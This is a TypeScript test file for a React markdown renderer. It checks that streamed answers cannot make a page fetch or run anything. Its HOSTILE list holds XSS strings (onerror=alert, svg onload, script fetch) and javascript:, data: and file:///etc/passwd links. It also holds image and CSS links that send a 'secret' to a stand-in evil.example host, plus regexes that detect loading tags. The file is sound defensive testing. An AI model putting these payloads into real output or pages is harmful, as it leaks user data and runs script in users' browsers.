import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { StreamedMarkdown } from './markdown'

const html = (text: string, isOpen = false): string =>
  renderToStaticMarkup(createElement(StreamedMarkdown, { text, isOpen }))

/** Every way of an answer to make a page fetch something or run something, as products of this kind met them. */
const HOSTILE: readonly string[] = [
  '![](https://evil.example/?q=secret)',
  '![a][1]\n\n[1]: https://evil.example/?q=secret',
  '![](//evil.example/x.png)',
  '![](file:///etc/passwd)',
  '![](data:image/svg+xml;base64,PHN2Zy8+)',
  '[![](https://evil.example/i.png)](https://evil.example)',
  '<img src="https://evil.example/x.png">',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<style>@import "https://evil.example/a.css"; p{background:url(https://evil.example/b.png)}</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<link rel="prefetch" href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<iframe src="https://evil.example/"></iframe>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<script>fetch("https://evil.example")</script>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:x)',
  '[click](chainhub-studio://run?x=1)',
  '[click](file:///etc/passwd)',
  '[click](http://plain.example/)',
  '<https://evil.example/auto>',
  'https://evil.example/bare www.evil.example',
  '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '```html\n<img src="https://evil.example/x.png">\n```',
  '| a |\n|---|\n| ![](https://evil.example/t.png) |',
  '- ![](https://evil.example/l.png)\n- <img src=https://evil.example/m.png>',
  '> ![](https://evil.example/q.png)',
  '# ![](https://evil.example/h.png)',
  '`![](https://evil.example/c.png)`',
  '$$\n\\includegraphics{https://evil.example/x.png}\n$$',
  '\\[\\href{javascript:alert(1)}{x}\\]',
  'Note[^1].\n\n[^1]: ![](https://evil.example/n.png) <img src=https://evil.example/o.png>',
]

/** Attributes and elements that load or run; `on…` handlers and inline styles cannot occur in React's output here. */
const LOADS = /<(?:img|iframe|script|style|link|meta|object|embed|video|audio|source|form|base|image|use)\b/i
const ATTRIBUTES = /\s(?:src|href|srcset|poster|ping|action|formaction|background|xlink:href|style|on\w+)=/i

function tagsOf(markup: string): readonly string[] {
  return markup.match(/<[a-z][^>]*>/gi) ?? []
}

describe('StreamedMarkdown', () => {
  it.each(HOSTILE)('fetches and runs nothing: %s', (text) => {
    for (let length = 1; length <= text.length; length += 1) {
      for (const isOpen of [true, false]) {
        for (const tag of tagsOf(html(text.slice(0, length), isOpen))) {
          expect(tag).not.toMatch(LOADS)
          expect(tag).not.toMatch(ATTRIBUTES)
        }
      }
    }
  })

  it('fetches nothing whatever pieces are put together', () => {
    const pieces = fc.array(fc.constantFrom(...HOSTILE, '\n', '\n\n', '- ', '> ', '`', '**', '['), { maxLength: 6 })
    fc.assert(
      fc.property(pieces, (parts) => {
        for (const tag of tagsOf(html(parts.join('')))) expect(tag).not.toMatch(ATTRIBUTES)
      }),
      { numRuns: 300 },
    )
  })

  it('shows raw HTML as the text it is', () => {
    expect(html('<b onclick="x()">hi</b>')).toContain('&lt;b onclick=&quot;x()&quot;&gt;hi&lt;/b&gt;')
  })

  it('shows the whole address of a link that lies about itself', () => {
    expect(html('[https://bank.example](https://evil.example/login)')).toContain('title="https://evil.example/login"')
  })

  it('makes an address that cannot be opened plain text', () => {
    const markup = html('[click](javascript:alert(1))')
    expect(markup).not.toContain('<button')
    expect(markup).toContain('javascript:alert(1)')
  })

  it.each([
    ['# Title', '<h3 class="md-h1">Title</h3>'],
    ['*a* **b** ~~c~~ `d`', '<em>a</em> <strong>b</strong> <del>c</del> <code>d</code>'],
    ['1. a\n2. b', '<ol start="1"><li>a</li><li>b</li></ol>'],
    ['3. a', '<ol start="3">'],
    ['- [x] done', '<li class="md-task"><input type="checkbox"'],
    ['> quote', '<blockquote><p>quote</p></blockquote>'],
    ['|a|b|\n|-|-:|\n|1|2|', '<td data-align="right">2</td>'],
    ['a  \nb', 'a<br/>b'],
    ['x | y\n---|---\n1<br>2 | 3', '1<br/>2'],
    ['&amp; &lt;x&gt; &mdash; `&amp;`', '&amp; &lt;x&gt; — <code>&amp;amp;</code>'],
    ['$x^2$ costs $5 and $6', '<code>x^2</code></span> costs $5 and $6'],
    ['$$\na\n=\nb\n$$', '<span class="md-math" data-display="true"><span hidden=""></span><code>a\n=\nb</code>'],
    ['\\(a\\) and \\[b\\]', '<span class="md-math" data-display="true"><span hidden=""></span><code>b</code>'],
    ['One[^a].\n\n[^a]: A *note*', '<button type="button" aria-label="Footnote 1">1</button>'],
    ['One[^a].\n\n[^a]: A *note*', 'A <em>note</em></li></ol></section>'],
    ['One[^missing].', 'One[^missing].'],
    ['```ts\nconst a = 1 < 2\n```', '<code>const a = 1 &lt; 2</code>'],
  ])('renders %j', (text, expected) => {
    expect(html(text)).toContain(expected)
  })
})
